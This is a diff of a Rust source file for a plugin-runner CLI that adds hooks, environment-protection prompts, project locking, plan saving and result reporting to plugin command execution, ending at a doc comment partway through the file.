@@ -1,151 +1,1019 @@
 use std::{
     collections::HashMap,
-    path::PathBuf,
-    process::{Command, Stdio},
+    io::{BufRead, BufReader, IsTerminal, Read, Write},
+    path::{Path, PathBuf},
+    process::{Child, Command, ExitStatus, Stdio},
+    time::{Duration, Instant, SystemTime, UNIX_EPOCH},
 };
 
 use crate::{
-    cli::{parse_cli_args, prompt_user},
+    capabilities::Capabilities,
+    cli::{DiffFormat, OutputFormat, parse_cli_args, prompt_input, prompt_user},
+    commands::{
+        api::api_version_warning,
+        audit::{CommandAudit, audit_permissions, print_command_audit},
+        vendor::{check_vendored, vendored_import_map},
+    },
     config::{
-        load_mis_config,
-        plugins::{load_plugin_manifest, load_plugin_user_config},
+        apply_command_variables, apply_env_file_variables, apply_env_profile, interpolate_config_values, interpolate_project_variables,
+        load_mis_config, load_mis_config_from,
+        plugins::{load_plugin_error_hints, load_plugin_manifest, load_plugin_user_config},
+        variables::{allowed_variable_commands, resolve_command_variables, split_command},
+    },
+    constants::{PLUGIN_CONFIG_FILE, PLUGIN_ERRORS_FILE, PLUGIN_MANIFEST_FILE},
+    crash_report::print_plugin_issue_link,
+    failure_hints::{match_failure_hints, print_failure_hints},
+    git_utils::git_info,
+    integrations::{
+        artifacts::{artifacts_dir, prepare_artifacts_dir, upload_artifacts},
+        container::{
+            container_command, container_image, container_run_args, ensure_container_runtime,
+        },
+        deno::{
+            cache_deno_dependencies, deno_command, deno_lock_path, install_deno, is_deno_installed,
+            module_resolution_args,
+        },
+    },
+    permission_audit::{DENO_AUDIT_ENV_VAR, PermissionReport, parse_audit_log},
+    plan_diff::{FileDiff, diff_planned_changes, render_diffs},
+    plugin_log::{PluginLogLine, parse_log_line, parse_progress_line, print_log_line},
+    plan::SavedPlan,
+    progress::{PluginProgress, suspend},
+    project_lock::acquire_project_lock,
+    plugin_utils::{
+        ensure_current_manifest_name, ensure_plugin_enabled, get_all_plugin_names,
+        plugin_state_dir,
+    },
+    report::{json_output, print_json},
+    run_log::{RunLogEntry, append_run_log},
+    models::{
+        CommandHooks, ContextTransport, EnvProfile, ExecutionContext, FailureHint, HookAction, PluginCommand, PluginManifest,
+        PluginMeta, PluginRunResult, PluginUserConfig,
+    },
+    security::{
+        PermissionViolation, PluginPermissions, build_plugin_permissions, declared_env_vars,
+        validate_plugin_dependencies,
+    },
+    signals,
+    temp_files::{
+        RUN_DIR_PREFIX, ensure_private_dir, overwrite_with_zeros, runs_dir, write_private_file,
     },
-    constants::{PLUGIN_CONFIG_FILE, PLUGIN_MANIFEST_FILE},
-    integrations::deno::{cache_deno_dependencies, install_deno, is_deno_installed},
-    models::{ExecutionContext, PluginManifest, PluginMeta},
-    security::{build_plugin_permissions, validate_deno_dependency_url},
-    utils::find_project_root,
-    validation::validate_plugin_args,
+    trust_store::resolve_violations,
+    utils::require_project_root,
+    validation::{did_you_mean, validate_plugin_args},
 };
 use anyhow::{Context, Result};
+use serde::Serialize;
+
+/// How a plugin command is run, beyond which command it is and its arguments
+#[derive(Debug, Clone, Copy, Default)]
+pub struct RunOptions<'a> {
+    /// How to report the plugin's structured result
+    pub output: OutputFormat,
+
+    /// Environment profile from [env.<name>] in mis.toml
+    pub environment: Option<&'a str>,
+
+    /// Tag every line the plugin prints with `[prefix]`.
+    ///
+    /// Used when several commands run at once so their output stays attributable.
+    /// Prefixed runs don't get terminal stdin, since concurrent plugins can't share it.
+    pub output_prefix: Option<&'a str>,
+
+    /// Record every permission the plugin exercises and report it after the run
+    pub trace_permissions: bool,
+
+    /// Print the permissions and `deno run` command the plugin would get, and stop there
+    pub show_permissions: bool,
+
+    /// Events published by earlier workflow steps, passed to the plugin as `ctx.events`
+    pub events: Option<&'a serde_json::Map<String, serde_json::Value>>,
+
+    /// Kill the plugin and fail if it runs longer than this
+    pub timeout: Option<Duration>,
+
+    /// Upload the run's artifacts directory to the [artifacts] sink afterwards
+    pub upload_artifacts: bool,
+
+    /// How to show the file changes the plugin plans on a dry run
+    pub diff_format: DiffFormat,
+
+    /// Run the plugin in a container even if its manifest doesn't ask for one
+    pub container: bool,
+
+    /// Skip the project lock for `exclusive = true` commands
+    pub no_lock: bool,
+
+    /// How long to wait for another run to release the project lock (fail at once if None)
+    pub lock_timeout: Option<Duration>,
+
+    /// Ask the plugin for a plan (`ctx.planning`) and save it instead of acting
+    pub plan: bool,
+
+    /// Where to save the plan; defaults to `.makeitso/plans/`
+    pub plan_out: Option<&'a Path>,
+
+    /// A reviewed plan to carry out, handed to the plugin as `ctx.plan`
+    pub apply_plan: Option<&'a SavedPlan>,
+    /// Answer yes to the `confirm` question of commands that ask one
+    pub yes: bool,
 
+    /// Fail instead of warning when the command is marked `deprecated`
+    pub strict_deprecations: bool,
+
+    /// Approval token for a protected environment, recorded in the run log
+    pub approval: Option<&'a str>,
+
+    /// Arguments given after `--`, passed to the plugin unparsed as `ctx.raw_args`
+    pub raw_args: &'a [String],
+}
+
+/// Run a plugin command along with any pre_run/post_run/on_failure hooks configured for it
 pub fn run_cmd(
     plugin_name: String,
     command_name: &str,
     dry_run: bool,
-    plugin_raw_args: HashMap<String, String>,
+    plugin_raw_args: HashMap<String, Vec<String>>,
+    options: RunOptions,
+) -> Result<Option<PluginRunResult>> {
+    let target = format!("{}:{}", plugin_name, command_name);
+    // A missing plugin or command is left for the run itself to report
+    let command = find_command(&plugin_name, command_name);
+
+    check_deprecation(
+        &target,
+        command.as_ref().and_then(|command| command.deprecated.as_deref()),
+        options.strict_deprecations,
+    )?;
+
+    // Nothing runs, so there's nothing to confirm, lock or hook
+    if options.show_permissions {
+        return run_plugin_command(plugin_name, command_name, dry_run, plugin_raw_args, options);
+    }
+
+    let interactive = options.output_prefix.is_none() && std::io::stdin().is_terminal();
+    confirm_command(
+        &target,
+        command.as_ref().and_then(|command| command.confirm.as_deref()),
+        dry_run,
+        options.yes,
+        interactive.then_some(prompt_user),
+    )?;
+
+    // Exclusive commands hold the project lock, and their hooks run under it too
+    let exclusive = command.as_ref().is_some_and(|command| command.exclusive);
+    let _lock = if exclusive && !options.no_lock {
+        Some(acquire_project_lock(
+            &require_project_root()?,
+            &target,
+            options.lock_timeout,
+        )?)
+    } else {
+        None
+    };
+
+    run_with_hooks(
+        plugin_name,
+        command_name,
+        dry_run,
+        plugin_raw_args,
+        options,
+        &mut Vec::new(),
+    )
+}
+
+/// The target and arguments of the project's `default_command`, for `mis run` without one
+pub fn default_command() -> Result<(String, Vec<String>)> {
+    let project_root = require_project_root()?;
+    let (config, _, _) = load_mis_config_from(&project_root)?;
+    let Some(command) = config.default_command else {
+        anyhow::bail!(
+            "🛑 No plugin command or workflow to run.\n\
+             → Run `mis run <plugin>:<command>`, or set default_command in mis.toml for a bare `mis run`."
+        );
+    };
+    let words = split_command(&command).map_err(|e| {
+        anyhow::anyhow!("🛑 default_command in mis.toml has an {}: {}", e, command)
+    })?;
+    let Some((target, args)) = words.split_first() else {
+        anyhow::bail!("🛑 default_command in mis.toml is empty.");
+    };
+    debugln!("Running default_command: {}", command);
+    Ok((target.clone(), args.to_vec()))
+}
+
+/// Guard runs against environments marked `protected` or `require_approval` in mis.toml.
+/// Dry runs change nothing, so they aren't guarded.
+pub fn check_protected_environment(
+    environment: Option<&str>,
+    dry_run: bool,
+    confirm_env: Option<&str>,
+    approval: Option<&str>,
 ) -> Result<()> {
-    let plugin_path = validate_plugin_exists(&plugin_name)?;
-    let manifest_path = plugin_path.join(PLUGIN_MANIFEST_FILE);
-    let config_path = plugin_path.join(PLUGIN_CONFIG_FILE);
+    let Some(name) = environment.filter(|_| !dry_run) else {
+        return Ok(());
+    };
+    let (mis_config, _, _) = load_mis_config()?;
+    // An unknown environment is reported by the run itself
+    let Some(profile) = mis_config.env.get(name) else {
+        return Ok(());
+    };
 
-    let plugin_manifest = load_plugin_manifest(&manifest_path)?;
-    let plugin_user_config = load_plugin_user_config(&config_path)?;
+    let interactive = std::io::stdin().is_terminal();
+    guard_environment(
+        name,
+        profile,
+        confirm_env,
+        approval,
+        interactive.then_some(prompt_input),
+    )
+}
 
-    if !is_deno_installed() {
-        let should_install = prompt_user("Deno is not installed. Would you like to install it?")?;
-        if !should_install {
-            anyhow::bail!("Deno is required to run plugins. Please install it and try again.");
+/// Check the approval token, then have the user type the environment's name back
+/// (or pass it with --confirm-env when there's no terminal to `prompt` on)
+fn guard_environment(
+    name: &str,
+    profile: &EnvProfile,
+    confirm_env: Option<&str>,
+    approval: Option<&str>,
+    prompt: Option<impl FnOnce(&str) -> Result<String>>,
+) -> Result<()> {
+    if profile.require_approval && approval.is_none_or(|token| token.trim().is_empty()) {
+        anyhow::bail!(
+            "🛑 Environment '{}' requires approval.\n\
+             → Have a second person approve the run and pass their token with --approval <TOKEN>.",
+            name
+        );
+    }
+    if !profile.protected {
+        return Ok(());
+    }
+
+    if let Some(typed) = confirm_env {
+        if typed == name {
+            return Ok(());
         }
+        anyhow::bail!(
+            "🛑 --confirm-env '{}' doesn't match the environment '{}'.",
+            typed,
+            name
+        );
+    }
+    let Some(prompt) = prompt else {
+        anyhow::bail!(
+            "🛑 Environment '{}' is protected.\n\
+             → Pass --confirm-env {} to run against it without a terminal.",
+            name,
+            name
+        );
+    };
 
-        // Install Deno
-        install_deno()?; // or prompt/abort if you want confirmation
+    errln!("⚠️  '{}' is a protected environment.", name);
+    if prompt(&format!("Type '{}' to continue", name))?.trim() != name {
+        anyhow::bail!("❌ Run against '{}' cancelled.", name);
     }
+    Ok(())
+}
 
-    // Parse raw arguments with improved logic that preserves spaces and handles empty values
-    let mut raw_args = Vec::new();
-    for (k, v) in plugin_raw_args {
-        raw_args.push(format!("--{}", k));
-        if !v.is_empty() {
-            raw_args.push(v);
+fn find_command(plugin_name: &str, command_name: &str) -> Option<PluginCommand> {
+    let plugin_path = validate_plugin_exists(plugin_name).ok()?;
+    let mut manifest = load_plugin_manifest(&plugin_path.join(PLUGIN_MANIFEST_FILE)).ok()?;
+    manifest.commands.swap_remove(command_name)
+}
+
+/// Warn about running a command whose manifest marks it `deprecated`, or refuse to under
+/// `--strict-deprecations`
+fn check_deprecation(target: &str, deprecated: Option<&str>, strict: bool) -> Result<()> {
+    let Some(message) = deprecated else {
+        return Ok(());
+    };
+    if strict {
+        anyhow::bail!(
+            "🛑 {} is deprecated: {}\n\
+             → Drop --strict-deprecations to run it anyway.",
+            target,
+            message
+        );
+    }
+    errln!("⚠️  {} is deprecated: {}", target, message);
+    Ok(())
+}
+
+/// Ask before running a command whose manifest sets `confirm`. Dry runs and `--yes` skip
+/// the question; without a terminal to ask on (`prompt` is None), `--yes` is required.
+fn confirm_command(
+    target: &str,
+    confirm: Option<&str>,
+    dry_run: bool,
+    yes: bool,
+    prompt: Option<impl FnOnce(&str) -> Result<bool>>,
+) -> Result<()> {
+    let Some(message) = confirm else {
+        return Ok(());
+    };
+    if dry_run || yes {
+        return Ok(());
+    }
+
+    let Some(prompt) = prompt else {
+        anyhow::bail!(
+            "🛑 {} asks for confirmation: {}\n\
+             → Pass --yes to confirm when running without a terminal.",
+            target,
+            message
+        );
+    };
+    if !prompt(&format!("⚠️  {}", message))? {
+        anyhow::bail!("❌ Run of {} cancelled.", target);
+    }
+    Ok(())
+}
+
+/// `chain` holds the "plugin:command"s whose hooks are currently running, to catch cycles
+fn run_with_hooks(
+    plugin_name: String,
+    command_name: &str,
+    dry_run: bool,
+    plugin_raw_args: HashMap<String, Vec<String>>,
+    options: RunOptions,
+    chain: &mut Vec<String>,
+) -> Result<Option<PluginRunResult>> {
+    let target = format!("{}:{}", plugin_name, command_name);
+    check_hook_cycle(chain, &target)?;
+
+    let hooks = resolve_hooks(&require_project_root()?, &plugin_name, command_name)?;
+    if hooks == CommandHooks::default() {
+        return run_plugin_command(plugin_name, command_name, dry_run, plugin_raw_args, options);
+    }
+
+    chain.push(target);
+    let result = run_hooks("pre_run", &hooks.pre_run, dry_run, options, chain).and_then(|()| {
+        run_plugin_command(plugin_name, command_name, dry_run, plugin_raw_args, options)
+    });
+    let result = match result {
+        Ok(run_result) => {
+            run_hooks("post_run", &hooks.post_run, dry_run, options, chain).map(|()| run_result)
         }
+        Err(e) => {
+            if let Err(hook_error) = run_hooks("on_failure", &hooks.on_failure, dry_run, options, chain) {
+                errln!("⚠️  Warning: {:#}", hook_error);
+            }
+            Err(e)
+        }
+    };
+    chain.pop();
+
+    result
+}
+
+fn check_hook_cycle(chain: &[String], target: &str) -> Result<()> {
+    if chain.iter().any(|running| running == target) {
+        anyhow::bail!(
+            "🛑 Hook cycle detected: {} → {}\n\
+             → Remove one of these hooks from .makeitso/mis.toml or the plugin manifest.",
+            chain.join(" → "),
+            target
+        );
     }
+    Ok(())
+}
 
-    let parsed_args = parse_cli_args(&raw_args);
+/// Hooks for `plugin:command`: the manifest's `[commands.<name>.hooks]` first, then
+/// `[hooks."plugin:command"]` from mis.toml.
+///
+/// Plugins come from registries, so only the project may run shell snippets; plugin
+/// hooks are limited to other (sandboxed) plugin commands.
+fn resolve_hooks(
+    project_root: &std::path::Path,
+    plugin_name: &str,
+    command_name: &str,
+) -> Result<CommandHooks> {
+    let target = format!("{}:{}", plugin_name, command_name);
+    let manifest_path = project_root
+        .join(".makeitso/plugins")
+        .join(plugin_name)
+        .join(PLUGIN_MANIFEST_FILE);
+
+    // A missing plugin, command or mis.toml is reported by the run itself
+    let mut hooks = if manifest_path.exists() {
+        load_plugin_manifest(&manifest_path)?
+            .commands
+            .swap_remove(command_name)
+            .and_then(|command| command.hooks)
+            .unwrap_or_default()
+    } else {
+        CommandHooks::default()
+    };
+
+    let mut manifest_hooks = hooks.pre_run.iter().chain(&hooks.post_run).chain(&hooks.on_failure);
+    if let Some(HookAction::Shell { shell }) =
+        manifest_hooks.find(|hook| matches!(hook, HookAction::Shell { .. }))
+    {
+        anyhow::bail!(
+            "🛑 Plugin '{}' declares a shell hook for '{}' (`{}`), which plugins can't do.\n\
+             → Shell hooks can only be set under [hooks] in .makeitso/mis.toml.",
+            plugin_name,
+            command_name,
+            shell
+        );
+    }
+
+    if !project_root.join(".makeitso").join("mis.toml").exists() {
+        return Ok(hooks);
+    }
+    let (mis_config, _, _) = load_mis_config_from(project_root)?;
+    if let Some(project_hooks) = mis_config.hooks.get(&target) {
+        hooks.pre_run.extend(project_hooks.pre_run.iter().cloned());
+        hooks.post_run.extend(project_hooks.post_run.iter().cloned());
+        hooks.on_failure.extend(project_hooks.on_failure.iter().cloned());
+    }
+
+    Ok(hooks)
+}
+
+/// Run one stage of hooks in order, stopping at the first failure.
+///
+/// On a dry run, plugin hooks run in dry-run mode too and shell hooks are only printed.
+fn run_hooks(
+    stage: &str,
+    hooks: &[HookAction],
+    dry_run: bool,
+    options: RunOptions,
+    chain: &mut Vec<String>,
+) -> Result<()> {
+    // Only the hooked command reports JSON, uploads artifacts, plans or gets raw args
+    let hook_options = RunOptions {
+        output: OutputFormat::Text,
+        upload_artifacts: false,
+        plan: false,
+        plan_out: None,
+        apply_plan: None,
+        raw_args: &[],
+        ..options
+    };
+
+    for hook in hooks {
+        match hook {
+            HookAction::Plugin(target) => {
+                let (plugin, command) = target.split_once(':').ok_or_else(|| {
+                    anyhow::anyhow!(
+                        "🛑 Invalid {} hook '{}'.\n\
+                         → Name a plugin command as <plugin>:<command>, or use {{ shell = \"...\" }}.",
+                        stage,
+                        target
+                    )
+                })?;
+                outln!("🪝 Running {} hook {}", stage, target);
+                run_with_hooks(
+                    plugin.to_string(),
+                    command,
+                    dry_run,
+                    HashMap::new(),
+                    hook_options,
+                    chain,
+                )
+                .with_context(|| format!("{} hook '{}' failed", stage, target))?;
+            }
+            HookAction::Shell { shell } if dry_run => {
+                outln!("📝 Would run {} hook `{}`", stage, shell);
+            }
+            HookAction::Shell { shell } => {
+                outln!("🪝 Running {} hook `{}`", stage, shell);
+                run_shell_hook(shell).with_context(|| format!("{} hook `{}` failed", stage, shell))?;
+            }
+        }
+    }
+
+    Ok(())
+}
+
+fn run_shell_hook(script: &str) -> Result<()> {
+    let mut command = if cfg!(windows) {
+        let mut command = std::process::Command::new("cmd");
+        command.arg("/C");
+        command
+    } else {
+        let mut command = std::process::Command::new("sh");
+        command.arg("-c");
+        command
+    };
+
+    let status = command
+        .arg(script)
+        .current_dir(require_project_root()?)
+        .stdout(plugin_stdout())
+        .status()
+        .context("🛑 Failed to start a shell for the hook")?;
+
+    if !status.success() {
+        anyhow::bail!("🛑 Hook exited with {}", status);
+    }
+    Ok(())
+}
+
+fn run_plugin_command(
+    plugin_name: String,
+    command_name: &str,
+    dry_run: bool,
+    plugin_raw_args: HashMap<String, Vec<String>>,
+    options: RunOptions,
+) -> Result<Option<PluginRunResult>> {
+    let plugin_path = validate_plugin_exists(&plugin_name)?;
+    let manifest_path = plugin_path.join(PLUGIN_MANIFEST_FILE);
+    let config_path = plugin_path.join(PLUGIN_CONFIG_FILE);
+
+    let plugin_manifest = load_plugin_manifest(&manifest_path)?;
+    let plugin_user_config = load_plugin_user_config(&config_path, &plugin_manifest)?;
+
+    // Fail early instead of a mid-run protocol mismatch
+    Capabilities::current().check_manifest(&plugin_manifest)?;
+    if let Some(warning) = api_version_warning(&require_project_root()?.join(".makeitso")) {
+        errln!("{}", warning);
+    }
+
+    ensure_plugin_runtime(&plugin_manifest, options.container)?;
+
+    if let Some(saved) = options.apply_plan {
+        saved.check_plugin_unchanged(&plugin_manifest.plugin.version, &plugin_path)?;
+    }
 
     // Get the command definition for validation
     let command = plugin_manifest
         .commands
         .get(command_name)
-        .with_context(|| {
-            format!(
-                "Command '{}' not found in plugin '{}'",
-                command_name, plugin_name
-            )
-        })?;
+        .with_context(|| unknown_command_message(&plugin_manifest, &plugin_name, command_name))?;
 
-    // Validate arguments against the plugin manifest
-    let validated_args = validate_plugin_args(
-        &parsed_args,
-        command.args.as_ref(),
+    let planned_args = options.plan.then(|| plugin_raw_args.clone());
+    let mut plugin_args =
+        validated_plugin_args(plugin_raw_args, command, &plugin_name, command_name)?;
+
+    let mut run_log = RunLogEntry::start(
         &plugin_name,
         command_name,
-    )?;
+        &plugin_args,
+        dry_run,
+        options.environment,
+    );
 
-    // Convert validated args to the format expected by ExecutionContext
-    let mut plugin_args: serde_json::Map<String, serde_json::Value> = validated_args
-        .into_iter()
-        .map(|(k, v)| {
-            let value = match v.as_str() {
-                "true" => serde_json::Value::Bool(true),
-                "false" => serde_json::Value::Bool(false),
-                _ => serde_json::Value::String(v),
-            };
-            (k, value)
-        })
-        .collect();
+    run_log.approval = options.approval.map(str::to_string);
 
     if dry_run {
         plugin_args.insert("dry_run".to_string(), serde_json::Value::Bool(true));
     }
 
-    let project_root = std::env::current_dir()?.to_string_lossy().to_string();
-
     // Validate Deno dependencies for security
-    for (dep_name, dep_url) in &plugin_manifest.deno_dependencies {
-        if let Err(security_error) = validate_deno_dependency_url(dep_url) {
-            return Err(anyhow::anyhow!(
-                "🛑 Security validation failed for dependency '{}' ({}): {}\n\
-                 → Deno dependencies must use secure HTTPS URLs from trusted sources.",
-                dep_name,
-                dep_url,
-                security_error
-            ));
-        }
+    validate_plugin_dependencies(&plugin_manifest)?;
+
+    let (mut mis_config, _, __) = load_mis_config()?;
+    apply_env_profile(&mut mis_config, options.environment)?;
+    apply_command_variables(&mut mis_config, &plugin_user_config, &plugin_name, command_name);
+    apply_env_file_variables(&mut mis_config, &require_project_root()?, options.environment)?;
+
+    let artifacts_config = match (options.upload_artifacts, mis_config.artifacts.take()) {
+        (true, None) => anyhow::bail!(
+            "🛑 --upload-artifacts needs an [artifacts] section in mis.toml.\n\
+             → Add one with `sink` (s3, gcs, azure or http) and `destination`."
+        ),
+        (upload, config) => config.filter(|_| upload),
+    };
+
+    let ctx = build_execution_context(
+        &plugin_manifest,
+        plugin_user_config,
+        mis_config.project_variables,
+        command_name,
+        plugin_args,
+        dry_run,
+        &options,
+    )?;
+
+    if options.show_permissions {
+        return execute_plugin(
+            &plugin_path,
+            &command.script,
+            &ctx,
+            &plugin_manifest,
+            command_name,
+            &options,
+            &mut run_log,
+        );
+    }
+
+    let artifacts_dir = PathBuf::from(&ctx.artifacts_dir);
+    prepare_artifacts_dir(&require_project_root()?, &artifacts_dir)?;
+
+    let started = Instant::now();
+    let run_result = execute_plugin(
+        &plugin_path,
+        &command.script,
+        &ctx,
+        &plugin_manifest,
+        command_name,
+        &options,
+        &mut run_log,
+    );
+    run_log.finish(started.elapsed(), &run_result);
+    if let Err(e) = append_run_log(&require_project_root()?, &run_log) {
+        errln!("⚠️  Warning: Failed to write run log: {:#}", e);
     }
+    let run_result = run_result?;
+
+    let artifact_urls = match &artifacts_config {
+        Some(config) => upload_artifacts(config, &artifacts_dir, &plugin_name, command_name)?,
+        None => Vec::new(),
+    };
+
+    let planned_changes = match &run_result {
+        Some(result) => diff_planned_changes(&require_project_root()?, &result.changes),
+        None => Vec::new(),
+    };
+
+    report_run_result(
+        &plugin_name,
+        command_name,
+        run_result.as_ref(),
+        &artifact_urls,
+        &planned_changes,
+        &run_log.violations,
+        &options,
+    )?;
+
+    if let Some(args) = planned_args {
+        save_plan(&plugin_manifest, command_name, &plugin_path, &args, run_result.as_ref(), &options)?;
+    }
+
+    Ok(run_result)
+}
+
+/// Save the plan a `--plan` run returned and show it for review
+fn save_plan(
+    plugin_manifest: &PluginManifest,
+    command_name: &str,
+    plugin_path: &Path,
+    args: &HashMap<String, Vec<String>>,
+    result: Option<&PluginRunResult>,
+    options: &RunOptions,
+) -> Result<()> {
+    let target = format!("{}:{}", plugin_manifest.plugin.name, command_name);
+    let Some(result) = result.filter(|result| result.plan.is_some()) else {
+        anyhow::bail!(
+            "🛑 {} didn't return a plan.\n\
+             → Plugins support --plan by passing `plan` to mis.writeResult() when ctx.planning is set.",
+            target
+        );
+    };
+
+    let mut saved = SavedPlan::new(
+        plugin_manifest,
+        command_name,
+        plugin_path,
+        args,
+        options.environment,
+        result.plan.clone().unwrap_or_default(),
+        result.changes.clone(),
+    )?;
+    saved.raw_args = options.raw_args.to_vec();
+    let path = match options.plan_out {
+        Some(path) => path.to_path_buf(),
+        None => saved.default_path(&require_project_root()?),
+    };
+    saved.save(&path)?;
+
+    saved.print();
+    outln!("📝 Plan saved to {}", path.display());
+    outln!("→ Apply it with: mis run --apply-plan {}", path.display());
+    Ok(())
+}
+
+/// Build the context a plugin command receives: resolve and interpolate project variables,
+/// interpolate the plugin's config, and fill in the run's environment, events and artifacts
+/// directory. Nothing is created or cleared, so `mis context` can show it without a run.
+pub fn build_execution_context(
+    plugin_manifest: &PluginManifest,
+    mut plugin_user_config: PluginUserConfig,
+    mut project_variables: HashMap<String, toml::Value>,
+    command_name: &str,
+    plugin_args: serde_json::Map<String, serde_json::Value>,
+    dry_run: bool,
+    options: &RunOptions,
+) -> Result<ExecutionContext> {
+    let project_root = std::env::current_dir()?.to_string_lossy().to_string();
 
     let meta = PluginMeta {
-        name: plugin_name, // Move instead of clone - plugin_name not used after this
+        name: plugin_manifest.plugin.name.clone(),
         description: plugin_manifest.plugin.description.clone(),
         version: plugin_manifest.plugin.version.clone(),
         registry: None, // Not needed for execution context
+        pin: None,
+        execution: None,
     };
 
-    let (mis_config, _, __) = load_mis_config()?;
+    resolve_command_variables(
+        &mut project_variables,
+        &require_project_root()?,
+        &allowed_variable_commands(),
+    )?;
+    interpolate_project_variables(&mut project_variables, |key| std::env::var(key).ok())?;
+    interpolate_config_values(&mut plugin_user_config.config, &project_variables, |key| {
+        std::env::var(key).ok()
+    })?;
 
     let plugin_args_toml: HashMap<String, toml::Value> = plugin_args
         .into_iter()
         .map(|(k, v)| (k, json_to_toml(v)))
         .collect();
 
-    let ctx = ExecutionContext::from_parts(
+    let mut ctx = ExecutionContext::from_parts(
         plugin_args_toml,
-        &plugin_manifest,
+        plugin_manifest,
         &plugin_user_config,
-        mis_config.project_variables,
+        project_variables,
         project_root,
         meta,
         dry_run,
     )?;
+    ctx.environment = options.environment.map(str::to_string);
+    ctx.events = options.events.cloned().unwrap_or_default();
+    ctx.raw_args = options.raw_args.to_vec();
+    ctx.planning = options.plan;
+    ctx.plan = options.apply_plan.map(|saved| saved.plan.clone());
+    set_plugin_dirs(&mut ctx, &require_project_root()?, command_name)?;
+    if plugin_manifest.context.as_ref().is_some_and(|context| context.git) {
+        ctx.git = git_info(&require_project_root()?);
+    }
+    let env_vars = declared_env_vars(plugin_manifest, command_name);
+    if !env_vars.is_empty() {
+        ctx.env = Some(
+            env_vars
+                .into_iter()
+                .filter_map(|name| std::env::var(&name).ok().map(|value| (name, value)))
+                .collect(),
+        );
+    }
 
-    execute_plugin(
-        &plugin_path,
-        &command.script,
-        &ctx,
-        &plugin_manifest.deno_dependencies,
-        &plugin_manifest,
-        command_name,
-    )?;
+    Ok(ctx)
+}
+
+/// Point the context at the command's artifacts directory and the plugin's state directory,
+/// refusing plugin and command names that would lead outside .makeitso
+fn set_plugin_dirs(
+    ctx: &mut ExecutionContext,
+    project_root: &Path,
+    command_name: &str,
+) -> Result<()> {
+    ctx.artifacts_dir = artifacts_dir(project_root, &ctx.meta.name, command_name)?
+        .to_string_lossy()
+        .to_string();
+    ctx.state_dir = plugin_state_dir(project_root, &ctx.meta.name)?
+        .to_string_lossy()
+        .to_string();
+    Ok(())
+}
+
+/// Create the plugin's state directory (unless only previewing the run) and let the plugin
+/// read and write it, whatever its manifest asks for
+fn grant_state_dir(
+    permissions: &mut PluginPermissions,
+    state_dir: &str,
+    create: bool,
+) -> Result<()> {
+    if state_dir.is_empty() {
+        return Ok(());
+    }
+    if create {
+        std::fs::create_dir_all(state_dir)
+            .with_context(|| format!("Failed to create state directory: {}", state_dir))?;
+    }
+    permissions.allow_cli_managed_file(state_dir, true);
+    Ok(())
+}
+
+/// Validate `--name value` arguments against the command and convert them for the plugin context
+pub fn validated_plugin_args(
+    plugin_raw_args: HashMap<String, Vec<String>>,
+    command: &PluginCommand,
+    plugin_name: &str,
+    command_name: &str,
+) -> Result<serde_json::Map<String, serde_json::Value>> {
+    // Parse raw arguments with improved logic that preserves spaces and handles empty values
+    let mut raw_args = Vec::new();
+    for (k, values) in plugin_raw_args {
+        for v in values {
+            raw_args.push(format!("--{}", k));
+            if !v.is_empty() {
+                raw_args.push(v);
+            }
+        }
+    }
+
+    let parsed_args = parse_cli_args(&raw_args);
+
+    // Validate arguments against the plugin manifest
+    let validated_args =
+        validate_plugin_args(&parsed_args, command.args.as_ref(), plugin_name, command_name)?;
+
+    // Convert validated args to the format expected by ExecutionContext: arguments declared
+    // `multiple`, or repeated without a declaration, become arrays
+    let declared_multiple = |name: &str| {
+        command.args.as_ref().is_some_and(|args| {
+            args.required
+                .get(name)
+                .or_else(|| args.optional.get(name))
+                .is_some_and(|def| def.multiple)
+        })
+    };
+    Ok(validated_args
+        .into_iter()
+        .map(|(k, mut values)| {
+            let value = if values.len() == 1 && !declared_multiple(&k) {
+                arg_json_value(values.remove(0))
+            } else {
+                serde_json::Value::Array(values.into_iter().map(arg_json_value).collect())
+            };
+            (k, value)
+        })
+        .collect())
+}
+
+fn arg_json_value(value: String) -> serde_json::Value {
+    match value.as_str() {
+        "true" => serde_json::Value::Bool(true),
+        "false" => serde_json::Value::Bool(false),
+        _ => serde_json::Value::String(value),
+    }
+}
+
+/// Offer to install Deno if it's missing, since every plugin runs on it
+/// Make sure whatever runs this plugin is available: the container engine or Deno
+pub fn ensure_plugin_runtime(plugin_manifest: &PluginManifest, container: bool) -> Result<()> {
+    match container_image(plugin_manifest, container) {
+        Some(_) => ensure_container_runtime(&plugin_manifest.plugin.name),
+        None => ensure_deno_installed(),
+    }
+}
+
+pub fn ensure_deno_installed() -> Result<()> {
+    if !is_deno_installed() {
+        let should_install = prompt_user("Deno is not installed. Would you like to install it?")?;
+        if !should_install {
+            anyhow::bail!("Deno is required to run plugins. Please install it and try again.");
+        }
+
+        // Install Deno
+        install_deno()?; // or prompt/abort if you want confirmation
+    }
 
     Ok(())
 }
 
-fn json_to_toml(value: serde_json::Value) -> toml::Value {
+/// Surface the plugin's structured result (if it wrote one) to the user
+pub fn report_run_result(
+    plugin_name: &str,
+    command_name: &str,
+    result: Option<&PluginRunResult>,
+    artifact_urls: &[String],
+    planned_changes: &[FileDiff],
+    security_violations: &[PermissionViolation],
+    options: &RunOptions,
+) -> Result<()> {
+    match options.output {
+        OutputFormat::Json => {
+            let default_result = PluginRunResult::default();
+            let result = result.unwrap_or(&default_result);
+            let summary = serde_json::json!({
+                "plugin": plugin_name,
+                "command": command_name,
+                "success": result.success.unwrap_or(true),
+                "message": result.message,
+                "warnings": result.warnings,
+                "outputs": result.outputs,
+                "events": result.events,
+                "artifacts": artifact_urls,
+                "changes": planned_changes,
+                "plan": result.plan,
+                "security_violations": security_violations,
+            });
+            print_json(&summary)?;
+        }
+        OutputFormat::Text => {
+            if !artifact_urls.is_empty() {
+                outln!("📦 Uploaded artifacts:");
+                for url in artifact_urls {
+                    outln!("   {}", url);
+                }
+            }
+
+            if !planned_changes.is_empty() {
+                render_diffs(planned_changes, options.diff_format)?;
+            }
+
+            let Some(result) = result else {
+                return Ok(());
+            };
+
+            for warning in &result.warnings {
+                outln!("⚠️  {}", warning);
+            }
+            if let Some(message) = &result.message {
+                outln!("✅ {}", message);
+            }
+            if !result.outputs.is_empty() {
+                outln!("📤 Outputs:");
+                for (key, value) in &result.outputs {
+                    outln!("   {} = {}", key, value);
+                }
+            }
+            for event in &result.events {
+                outln!("📣 Published event '{}'", event.name);
+            }
+        }
+    }
+
+    Ok(())
+}
+
+/// Wait for the plugin to exit, killing it once `timeout` has passed (None = timed out).
+/// Ctrl-C and SIGTERM are passed on, and the plugin is killed if it outlasts the grace period.
